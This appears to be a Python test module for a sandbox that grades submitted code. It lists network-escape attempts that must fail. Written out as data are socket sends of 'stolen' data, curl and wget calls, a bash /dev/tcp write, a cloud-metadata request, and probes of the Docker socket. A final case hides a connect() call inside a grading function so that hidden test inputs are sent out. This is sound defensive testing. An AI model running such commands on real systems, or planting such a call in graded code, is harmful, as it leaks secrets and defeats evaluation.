"""Reaching the network: nothing may arrive at listeners on the loopback of this machine."""

from hostile.attack import Attack

_CONNECT = """
def connect():
    with socket.create_connection(("127.0.0.1", @TCP@), timeout=1) as made:
        made.sendall(b"stolen")
        return made.getpeername()
"""

ATTACKS = [
    Attack(
        "network_tcp",
        "connects to a listener on the machine, by IPv4, IPv6, names and all local addresses",
        before=(
            _CONNECT
            + """
must_fail("TCP", connect)
for host in ["localhost", "0.0.0.0", "::1", "::ffff:127.0.0.1", "127.0.1.1", socket.gethostname()]:
    must_fail(host, lambda: socket.create_connection((host, @TCP@), timeout=1).sendall(b"stolen"))
""",
        ),
    ),
    Attack(
        "network_udp",
        "sends datagrams",
        before=(
            """
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
    for host in ["127.0.0.1", "255.255.255.255", "224.0.0.1", "192.0.2.1"]:
        with contextlib.suppress(OSError):
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sender.sendto(b"stolen", (host, @UDP@))
print("over")
""",
        ),
    ),
    Attack(
        "network_unix",
        "connects to Unix sockets of the machine, named by path and without one",
        before=(
            """
for name in ["@UNIX@", "/proc/self/root@UNIX@", "\\0@ABSTRACT@", "/run/docker.sock",
             "/var/run/dbus/system_bus_socket", "/run/systemd/private"]:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        must_fail(name, lambda: socket.socket(socket.AF_UNIX, kind).connect(name))
""",
        ),
    ),
    Attack(
        "network_names",
        "asks for names and pages, by Python and by programs",
        before=(
            """
from urllib.request import urlopen
for host in ["example.com", "stolen.example.org", "metadata.google.internal"]:
    must_fail(host, lambda: socket.getaddrinfo(host, 80))
must_fail("page", lambda: urlopen("http://127.0.0.1:@TCP@/stolen", timeout=1).read())
must_fail("metadata", lambda: urlopen("http://169.254.169.254/latest", timeout=1).read())
for command in ["curl -s -m 1 http://127.0.0.1:@TCP@/stolen", "wget -q -T 1 http://127.0.0.1:@TCP@/"]:
    must_fail(command, lambda: subprocess.run(command.split(), check=True, capture_output=True))
must_fail("bash", lambda: subprocess.run(
    ["bash", "-c", "echo stolen > /dev/tcp/127.0.0.1/@TCP@"], check=True, capture_output=True))
""",
        ),
    ),
    Attack(
        "network_raw",
        "opens raw sockets, changes interfaces and routes",
        before=(
            """
must_fail("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
must_fail("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
must_fail("an interface", lambda: [n for _, n in socket.if_nameindex() if n != "lo"][0])
must_fail("ip", lambda: subprocess.run("ip link add x0 type veth".split(), check=True,
                                       capture_output=True))
must_fail("port 80", lambda: socket.create_server(("127.0.0.1", 80)))
must_fail("vsock", lambda: socket.socket(socket.AF_VSOCK).connect((1, 9)))
""",
        ),
    ),
    Attack(
        "network_listens",
        "listens at the port of the machine, to catch what others send there",
        before=(
            """
for family, address in [(socket.AF_INET, ("0.0.0.0", @TCP@)), (socket.AF_UNIX, "\\0@ABSTRACT@")]:
    with contextlib.suppress(OSError):
        server = socket.socket(family)
        server.bind(address)
        server.listen()
        server.settimeout(0.2)
        must_fail("somebody", lambda: server.accept())
print("over")
""",
        ),
    ),
    Attack(
        "network_while_asked",
        "sends the inputs of the hidden cases away while its function is called",
        before=(_CONNECT,),
        cells={
            "char_ngrams": """
def char_ngrams(word, n):
    try:
        connect()
    except OSError:
        pass
    w = "<" + word + ">"
    return [w[k:k + n] for k in range(len(w) - n + 1)]
""",
        },
    ),
]
